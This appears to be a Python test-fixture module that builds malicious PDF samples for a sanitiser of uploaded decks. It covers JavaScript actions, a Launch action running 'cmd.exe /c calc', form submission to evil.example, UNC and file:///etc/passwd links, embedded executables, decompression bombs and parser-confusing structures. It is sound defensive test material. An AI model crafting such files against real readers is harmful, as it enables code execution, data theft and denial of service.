"""Files that somebody who means harm might send, each with what must become of it: None for cleaned, or the reason."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from PIL import Image

from startups.decks.reasons import Reason
from tests.startups.deck_writer import TEXT, annotation, deck, flate, link, pdf, stream, table, updated

Case = tuple[Callable[[], bytes], Reason | None]
SCRIPT = b"app.alert('canary')"
JAVASCRIPT = b"/S /JavaScript /JS (%s)" % SCRIPT
LAUNCH = b"/S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >>"
MEBIBYTE = 1024 * 1024


def _file_spec(number: int) -> dict[int, bytes]:
    return {
        number: b"<< /Type /Filespec /F (tool.exe) /UF (tool.exe) /EF << /F %d 0 R >> >>" % (number + 1),
        number + 1: stream(b"MZ canary", b"/Type /EmbeddedFile"),
    }


def _launch_in_name() -> bytes:
    return deck(annotations=link(b"/S /La#75nch /F (cmd.exe)"))


def _hex_script() -> bytes:
    return deck(catalogue=b"/Open#41ction << /S /J#61vaScript /JS <%s> >>" % SCRIPT.hex().encode())


def _script_in_object_stream() -> bytes:
    source = pikepdf.Pdf.open(io.BytesIO(deck(catalogue=b"/OpenAction << %s >>" % JAVASCRIPT)))
    return _saved(source, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def _saved(file: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    file.save(out, **options)
    return out.getvalue()


def _encrypted(owner: str, user: str) -> bytes:
    return _saved(pikepdf.Pdf.open(io.BytesIO(deck())), encryption=pikepdf.Encryption(owner=owner, user=user))


def _outline(item: bytes, more: bytes = b"") -> bytes:
    return deck(
        catalogue=b"/Outlines 10 0 R /PageMode /UseOutlines",
        more={
            10: b"<< /Type /Outlines /First 11 0 R /Last 11 0 R /Count 1 >>",
            11: b"<< /Title (Chapter) /Parent 10 0 R %s >>" % item,
            **({12: more} if more else {}),
        },
    )


def _names(kind: bytes, value: bytes) -> bytes:
    return deck(catalogue=b"/Names << /%s << /Names [(first) %s] >> >>" % (kind, value), more=_file_spec(20))


def _form(field: bytes, keys: bytes = b"") -> bytes:
    return deck(
        catalogue=b"/AcroForm << /Fields [10 0 R] /NeedAppearances true %s >>" % keys,
        annotations=b"10 0 R",
        more={10: annotation(b"Widget", b"/FT /Btn /T (send) %s" % field), **_file_spec(20)},
    )


def _xfa() -> bytes:
    template = b"<xdp:xdp><script contentType='application/x-javascript'>%s</script></xdp:xdp>" % SCRIPT
    return deck(catalogue=b"/AcroForm << /Fields [] /XFA 10 0 R >>", more={10: flate(template)})


def _image(keys: bytes, data: bytes, more: bytes = b"") -> bytes:
    image = stream(data, b"/Type /XObject /Subtype /Image " + keys)
    return deck(
        contents=TEXT + b" q 100 0 0 100 72 72 cm /Im1 Do Q",
        resources=b"/XObject << /Im1 10 0 R >>",
        more={10: image, **({11: more} if more else {})},
    )


def _gray(width: int, height: int, keys: bytes = b"") -> bytes:
    return b"/Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8 %s" % (width, height, keys)


def _picture(kind: str, size: tuple[int, int]) -> bytes:
    out = io.BytesIO()
    Image.new("L", size, 255).save(out, kind)
    return out.getvalue()


def _jpeg_that_claims(width: int, height: int) -> bytes:
    """A JPEG whose own header says another size than its dictionary."""
    data = bytearray(_picture("JPEG", (8, 8)))
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = height.to_bytes(2, "big") + width.to_bytes(2, "big")
    return _image(_gray(8, 8, b"/Filter /DCTDecode"), bytes(data))


def _jpx_that_claims(width: int, height: int) -> bytes:
    data = bytearray(_picture("JPEG2000", (8, 8)))
    at = data.index(b"ihdr") + 4
    data[at : at + 8] = height.to_bytes(4, "big") + width.to_bytes(4, "big")
    at = data.index(b"\xff\x51") + 6
    data[at : at + 8] = width.to_bytes(4, "big") + height.to_bytes(4, "big")
    return _image(_gray(8, 8, b"/Filter /JPXDecode"), bytes(data))


def _zeros(size: int) -> bytes:
    """`size` zero bytes, deflated a mebibyte at a time."""
    deflater = zlib.compressobj(9)
    parts = [deflater.compress(bytes(MEBIBYTE)) for _ in range(size // MEBIBYTE)]
    return b"".join(parts) + deflater.flush()


def _bomb(size: int) -> bytes:
    return deck(more={10: stream(_zeros(size), b"/Filter /FlateDecode")}, page=b"/Thumb 10 0 R")


def _many_bombs() -> bytes:
    bomb = stream(_zeros(60 * MEBIBYTE), b"/Filter /FlateDecode")
    return deck(more=dict.fromkeys(range(10, 30), bomb))


def _nested_bomb() -> bytes:
    twice = zlib.compress(_zeros(256 * MEBIBYTE), 9)
    return deck(more={10: stream(twice, b"/Filter [/FlateDecode /FlateDecode]")})


def _object_stream(data: bytes, first: int, count: int, keys: bytes = b"") -> bytes:
    """A file whose object 7 stands in the object stream 6; its cross-reference is a stream."""
    body = bytearray(b"%PDF-1.7\n")
    places = {}
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /Lang 7 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 842 595] >>",
        6: stream(data, b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode %s" % (count, first, keys)),
    }
    for number, content in objects.items():
        places[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    rows = bytearray()
    for number in range(9):
        place = len(body) if number == 8 else places.get(number, 0)
        kind = 2 if number == 7 else 1 if place else 0
        rows += bytes([kind]) + (6 if kind == 2 else place).to_bytes(4, "big") + b"\0"
    keys = b"/Type /XRef /Size 9 /Root 1 0 R /W [1 4 1]"
    end = b"8 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (stream(bytes(rows), keys), len(body))
    return bytes(body) + end


def _object_stream_bomb() -> bytes:
    head = b"7 0 "
    deflater = zlib.compressobj(9)
    data = deflater.compress(head + b"(en)")
    for _ in range(1024):
        data += deflater.compress(b" " * MEBIBYTE)
    return _object_stream(data + deflater.flush(), len(head), 1)


def _object_stream_in_itself() -> bytes:
    return _object_stream(zlib.compress(b"7 0 (en)"), 4, 1, b"/Extends 6 0 R")


def _deep(depth: int) -> bytes:
    return deck(more={10: b"[" * depth + b"]" * depth}, page=b"/Tabs 10 0 R")


def _deep_chain() -> bytes:
    """Ten thousand dictionaries, each in the one before."""
    links = {number: b"<< /Next %d 0 R >>" % (number + 1) for number in range(10, 10_010)}
    return deck(page=b"/Group 10 0 R", more={**links, 10_010: b"<< >>"})


def _pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % number for number in range(10, 10 + count))
    leaves = dict.fromkeys(range(10, 10 + count), b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 842 595] >>")
    head = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
    }
    return pdf({**head, **leaves})


def _pages_that_lie() -> bytes:
    return _pages(60).replace(b"/Count 60", b"/Count 01")


def _kids_loop() -> bytes:
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
        }
    )


def _many_objects() -> bytes:
    return deck(more=dict.fromkeys(range(10, 60_010), b"null"))


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("run.js", "canary")
    return out.getvalue()


def _html_after_header() -> bytes:
    return deck(header=b"%PDF-1.7\n%<script>canary()</script>\n")


def _bad_table() -> bytes:
    good = deck()
    return good.replace(b"0000000015 00000 n", b"0000009999 00000 n")


def _table_in_circles() -> bytes:
    body = deck()
    place = body.index(b"xref\n0 1")
    return body.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % place)


def _hidden_by_update() -> bytes:
    clean = deck()
    return updated(
        clean,
        {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R >>", 10: b"<< %s >>" % JAVASCRIPT},
    )


def _update_that_takes_back() -> bytes:
    """The action stands in the old part; a reader that mends the file may find it."""
    hostile = deck(catalogue=b"/OpenAction 10 0 R", more={10: b"<< %s >>" % JAVASCRIPT})
    return updated(hostile, {1: b"<< /Type /Catalog /Pages 2 0 R >>", 10: b"null"})


def _orphan_page() -> bytes:
    """A page that is in no book, reached through a link."""
    orphan = b"<< /Type /Page /MediaBox [0 0 842 595] /AA << /O << %s >> >> >>" % JAVASCRIPT
    return deck(annotations=link(b"/S /GoTo /D [10 0 R /Fit]"), more={10: orphan})


def _behind_structure() -> bytes:
    """The tags of a page still hold the annotation that the page no longer has."""
    return deck(
        catalogue=b"/StructTreeRoot 10 0 R /MarkInfo << /Marked true >>",
        annotations=b"12 0 R",
        more={
            10: b"<< /Type /StructTreeRoot /K 11 0 R >>",
            11: b"<< /Type /StructElem /S /Form /P 10 0 R /K << /Type /OBJR /Obj 12 0 R >> >>",
            12: annotation(b"Screen", b"/A << %s >>" % JAVASCRIPT),
        },
    )


def _rich_media() -> bytes:
    content = b"/RichMediaContent << /Assets << /Names [(a.swf) 20 0 R] >> >> /RichMediaSettings << >>"
    return deck(annotations=annotation(b"RichMedia", content), more=_file_spec(20))


def _three_d() -> bytes:
    model = stream(b"U3D\0canary", b"/Type /3D /Subtype /U3D /OnInstantiate 11 0 R")
    return deck(annotations=annotation(b"3D", b"/3DD 10 0 R"), more={10: model, 11: stream(SCRIPT)})


def _external_stream() -> bytes:
    keys = b"/Length 0 /F (\\\\\\\\server\\\\share\\\\page.bin) /FFilter /FlateDecode"
    return deck(page=b"/Group 10 0 R", more={10: b"<< %s >>\nstream\n\nendstream" % keys})


def _form_object(keys: bytes, data: bytes = b"", more: dict[int, bytes] | None = None) -> bytes:
    form = stream(data, b"/Type /XObject %s /BBox [0 0 10 10]" % keys)
    return deck(
        contents=TEXT + b" /Fx Do", resources=b"/XObject << /Fx 10 0 R >>", more={10: form, **(more or {})}
    )


def _contents_of_a_million_operators() -> bytes:
    contents = flate(b"0 0 m 842 595 l S\n" * 1_000_000)
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 842 595] /Contents 4 0 R >>",
            4: contents,
        }
    )


ACTIVE: dict[str, Case] = {
    "script on opening": (lambda: deck(catalogue=b"/OpenAction << %s >>" % JAVASCRIPT), None),
    "script in hexadecimal names": (_hex_script, None),
    "script in a stream": (
        lambda: deck(catalogue=b"/OpenAction << /S /JavaScript /JS 10 0 R >>", more={10: flate(SCRIPT)}), None
    ),
    "script in an object stream": (_script_in_object_stream, None),
    "script on closing": (lambda: deck(catalogue=b"/AA << /WC << %s >> >>" % JAVASCRIPT), None),
    "script when a page opens": (lambda: deck(page=b"/AA << /O << %s >> >>" % JAVASCRIPT), None),
    "script in the page tree": (lambda: deck(pages=b"/AA << /O << %s >> >>" % JAVASCRIPT), None),
    "script among names": (lambda: _names(b"JavaScript", b"<< %s >>" % JAVASCRIPT), None),
    "script behind a link": (lambda: deck(annotations=link(JAVASCRIPT)), None),
    "script after a harmless action": (
        lambda: deck(annotations=link(b"/S /GoTo /D [3 0 R /Fit] /Next << %s >>" % JAVASCRIPT)), None
    ),
    "script in an address": (lambda: deck(annotations=link(b"/S /URI /URI (javascript:canary())")), None),
    "script in a padded address": (lambda: deck(annotations=link(b"/S /URI /URI ( JaVaScRiPt:canary())")), None),
    "script in a chapter": (lambda: _outline(b"/A << %s >>" % JAVASCRIPT), None),
    "script when a link is pointed at": (
        lambda: deck(annotations=link(b"/S /GoTo /D [3 0 R /Fit]", b"/AA << /E << %s >> >>" % JAVASCRIPT)), None
    ),
    "script in a second address of a link": (
        lambda: deck(
            annotations=link(b"/S /GoTo /D [3 0 R /Fit]", b"/PA << /S /URI /URI (javascript:canary()) >>")
        ), None
    ),
    "script of a form field": (lambda: _form(b"/AA << /K << %s >> >>" % JAVASCRIPT), None),
    "script in a rendition": (
        lambda: deck(annotations=annotation(b"Screen", b"/A << /S /Rendition /OP 0 /JS (canary) >>")), None
    ),
    "script in the requirements": (
        lambda: deck(catalogue=b"/Requirements [<< /S /EnableJavaScripts /RH << /S /JS /Script (canary) >> >>]"), None
    ),
    "script of a layer": (
        lambda: deck(annotations=link(b"/S /SetOCGState /State [/ON 10 0 R]"), more={10: b"<< /Type /OCG >>"}), None
    ),
    "program started on opening": (lambda: deck(catalogue=b"/OpenAction << %s >>" % LAUNCH), None),
    "program started by a link": (lambda: deck(annotations=link(LAUNCH)), None),
    "program started by a disguised name": (_launch_in_name, None),
    "program started by a chapter": (lambda: _outline(b"/A << %s >>" % LAUNCH), None),
    "form that is sent off": (lambda: _form(b"/A << /S /SubmitForm /F (https://evil.example/) >>"), None),
    "form that is emptied": (lambda: _form(b"/A << /S /ResetForm >>"), None),
    "form that reads data": (lambda: _form(b"/A << /S /ImportData /F (x.fdf) >>"), None),
    "form of the XFA kind": (_xfa, None),
    "other file opened": (lambda: deck(annotations=link(b"/S /GoToR /F (\\\\\\\\evil\\\\x.pdf) /D [0 /Fit]")), None),
    "embedded file opened": (
        lambda: deck(annotations=link(b"/S /GoToE /T << /R /C /N (a) >> /D [0 /Fit]")), None
    ),
    "file on the reader's disk": (lambda: deck(annotations=link(b"/S /URI /URI (file:///etc/passwd)")), None),
    "file on a strange server": (
        lambda: deck(annotations=link(b"/S /URI /URI (\\\\\\\\evil\\\\share\\\\x)")), None
    ),
    "relative address with a base": (
        lambda: deck(catalogue=b"/URI << /Base (file:///c:/) >>", annotations=link(b"/S /URI /URI (x.exe)")), None
    ),
    "address with a line break": (lambda: deck(annotations=link(b"/S /URI /URI (https://a.example/\\nx)")), None),
    "address with hidden letters": (
        lambda: deck(annotations=link(b"/S /URI /URI <FEFF00680074007400700073003A>")), None
    ),
    "menu command": (lambda: deck(annotations=link(b"/S /Named /N /SaveAs")), None),
    "thread of another file": (lambda: deck(annotations=link(b"/S /Thread /F (x.pdf) /D 0")), None),
    "sound": (lambda: deck(annotations=annotation(b"Sound", b"/Sound 10 0 R"), more={10: stream(b"RIFF")}), None),
    "movie": (lambda: deck(annotations=annotation(b"Movie", b"/Movie << /F (x.avi) >> /A true")), None),
    "rich media": (_rich_media, None),
    "three dimensions": (_three_d, None),
    "attached file": (lambda: _names(b"EmbeddedFiles", b"20 0 R"), None),
    "attached file on a page": (
        lambda: deck(annotations=annotation(b"FileAttachment", b"/FS 20 0 R"), more=_file_spec(20)), None
    ),
    "associated file": (lambda: deck(catalogue=b"/AF [20 0 R]", more=_file_spec(20)), None),
    "associated file of an image": (
        lambda: _image(_gray(1, 1, b"/AF [<< /Type /Filespec /F (x) >>]"), b"\xff"), None
    ),
    "portfolio of files": (
        lambda: deck(
            catalogue=b"/Collection << /View /D >> /Names << /EmbeddedFiles << /Names [(a) 20 0 R] >> >>",
            more=_file_spec(20),
        ), None
    ),
    "renditions among names": (lambda: _names(b"Renditions", b"<< /S /MR /C << /S /MCD /D 20 0 R >> >>"), None),
    "full screen without frame": (
        lambda: deck(catalogue=b"/PageMode /FullScreen /ViewerPreferences << /HideToolbar true >>"), None
    ),
    "pages that turn by themselves": (lambda: deck(page=b"/Dur 1 /Trans << /S /Fly >> /PresSteps << >>"), None),
    "stream in another file": (_external_stream, None),
    "picture in another file": (
        lambda: _form_object(b"/Subtype /Form /Ref << /F (\\\\\\\\evil\\\\x.pdf) /Page 0 >>"), None
    ),
    "picture with a version on a server": (
        lambda: _form_object(b"/Subtype /Form /OPI << /2.0 << /F (\\\\\\\\evil\\\\x.eps) >> >>"), None
    ),
    "program for a printer": (lambda: _form_object(b"/Subtype /PS", b"(canary) run"), None),
    "program for a printer in a form": (lambda: _form_object(b"/Subtype /Form /Subtype2 /PS /PS 10 0 R"), None),
    "metadata": (
        lambda: deck(
            catalogue=b"/Metadata 10 0 R",
            more={10: stream(b"<x:xmpmeta>canary</x:xmpmeta>", b"/Type /Metadata /Subtype /XML")},
            trailer=b"/Info << /Author (canary) >>",
        ), None
    ),
    "private data of a program": (lambda: deck(page=b"/PieceInfo << /Ai << /Private (canary) >> >>"), None),
    "signature field": (
        lambda: _form(b"/FT /Sig /V << /Type /Sig /Filter /Adobe.PPKLite /Contents <00> >>", b"/SigFlags 3"), None
    ),
    "action hidden by an update": (_hidden_by_update, None),
    "action that an update takes back": (_update_that_takes_back, None),
    "page that is in no book": (_orphan_page, None),
    "annotation behind the tags": (_behind_structure, None),
    "chapters in a circle": (lambda: _outline(b"/Next 11 0 R"), None),
    "archive behind the deck": (lambda: deck() + _zip(), None),
    "page of the web within": (_html_after_header, None),
    "names in every script": (
        lambda: _names("ＪａｖａＳｃｒｉｐｔ\u202e".encode(), b"<< %s >>" % JAVASCRIPT), None
    ),
    "a page of no numbers": (lambda: deck(box=b"[0 0 /A 595]"), None),
    "lists in lists": (lambda: _deep(5_000), None),
    "ten thousand links in a chain": (_deep_chain, None),
}  # fmt: skip
REFUSED: dict[str, Case] = {
    "nothing at all": (lambda: b"", Reason.NOT_PDF),
    "a text": (lambda: b"This is a deck, believe me.", Reason.NOT_PDF),
    "a picture": (lambda: _picture("PNG", (10, 10)), Reason.NOT_PDF),
    "an archive": (_zip, Reason.NOT_PDF),
    "an archive before the deck": (lambda: _zip() + deck(), Reason.NOT_PDF),
    "a page of the web before the deck": (
        lambda: b"<html><script>canary()</script>" + deck(), Reason.NOT_PDF
    ),
    "an empty line before the deck": (lambda: b"\n" + deck(), Reason.NOT_PDF),
    "a version that does not exist": (lambda: deck().replace(b"%PDF-1.7", b"%PDF-9.x"), Reason.NOT_PDF),
    "a head without a body": (lambda: b"%PDF-1.7\n", Reason.DAMAGED),
    "too many bytes": (lambda: deck() + bytes(20 * MEBIBYTE), Reason.TOO_LARGE),
    "the second half missing": (lambda: deck()[:400], Reason.DAMAGED),
    "the end missing": (lambda: deck()[:-60], Reason.DAMAGED),
    "a wrong table": (_bad_table, Reason.DAMAGED),
    "a table in circles": (_table_in_circles, Reason.DAMAGED),
    "no catalogue": (lambda: deck().replace(b"/Root 1 0 R", b"/Root 5 0 R"), Reason.DAMAGED),
    "no pages": (lambda: _pages(0), Reason.DAMAGED),
    "pages in circles": (_kids_loop, Reason.DAMAGED),
    "a password": (lambda: _encrypted("owner", "reader"), Reason.ENCRYPTED),
    "a password against printing": (lambda: _encrypted("owner", ""), Reason.ENCRYPTED),
    "thirty-one pages": (lambda: _pages(31), Reason.TOO_MANY_PAGES),
    "twenty thousand pages": (lambda: _pages(20_000), Reason.TOO_MANY_PAGES),
    "pages that are not counted": (_pages_that_lie, Reason.TOO_MANY_PAGES),
    "sixty thousand objects": (_many_objects, Reason.TOO_MANY_OBJECTS),
    "a page of a kilometre": (lambda: deck(box=b"[0 0 3000000 595]"), Reason.PAGE_SIZE),
    "a page without width": (lambda: deck(box=b"[0 0 0 595]"), Reason.PAGE_SIZE),
    "a stream of 65 MiB": (lambda: _bomb(65 * MEBIBYTE), Reason.STREAM_TOO_LARGE),
    "a stream of 2 GiB": (lambda: _bomb(2048 * MEBIBYTE), Reason.STREAM_TOO_LARGE),
    "twenty streams of 60 MiB": (_many_bombs, Reason.STREAM_TOO_LARGE),
    "a stream packed twice": (_nested_bomb, Reason.UNUSUAL_CODING),
    "objects of 1 GiB": (_object_stream_bomb, Reason.STREAM_TOO_LARGE),
    "a stream that is not packed as it says": (
        lambda: deck(more={10: stream(b"canary", b"/Filter /FlateDecode")}), Reason.DAMAGED
    ),
    "an unknown coding": (lambda: deck(more={10: stream(b"x", b"/Filter /Canary")}), Reason.UNUSUAL_CODING),
    "a coding of its own key": (lambda: deck(more={10: stream(b"x", b"/Filter /Crypt")}), Reason.UNUSUAL_CODING),
    "a wrong letter in a text coding": (
        lambda: deck(more={10: stream(b"zz~vv~>", b"/Filter /ASCII85Decode")}), Reason.DAMAGED
    ),
    "a picture of 900 million points": (
        lambda: _image(_gray(30_000, 30_000, b"/Filter /FlateDecode"), zlib.compress(bytes(9))),
        Reason.IMAGE_TOO_LARGE,
    ),
    "a picture of less than nothing": (lambda: _image(_gray(-5, 30_000), b"x"), Reason.IMAGE_TOO_LARGE),
    "a JPEG larger than it says": (lambda: _jpeg_that_claims(30_000, 30_000), Reason.IMAGE_TOO_LARGE),
    "a JPEG 2000 larger than it says": (lambda: _jpx_that_claims(60_000, 60_000), Reason.IMAGE_TOO_LARGE),
    "a JPEG that is none": (lambda: _image(_gray(8, 8, b"/Filter /DCTDecode"), b"GIF89a"), Reason.DAMAGED),
    "a JPEG 2000 that is none": (lambda: _image(_gray(8, 8, b"/Filter /JPXDecode"), b"\0" * 40), Reason.DAMAGED),
    "a JBIG2 picture": (lambda: _image(_gray(8, 8, b"/Filter /JBIG2Decode"), b"\0" * 40), Reason.UNUSUAL_CODING),
    "a fax of a square mile": (
        lambda: _image(
            b"/Width 8 /Height 8 /BitsPerComponent 1 /Filter /CCITTFaxDecode "
            b"/DecodeParms << /Columns 60000 /Rows 60000 >>",
            b"\0",
        ),
        Reason.IMAGE_TOO_LARGE,
    ),
}  # fmt: skip
CORPUS: dict[str, Case] = {**ACTIVE, **REFUSED}
SLOW_TO_DRAW = _contents_of_a_million_operators
OBJECT_STREAM_IN_ITSELF = _object_stream_in_itself
__all__ = ["ACTIVE", "CORPUS", "OBJECT_STREAM_IN_ITSELF", "REFUSED", "SLOW_TO_DRAW", "table"]
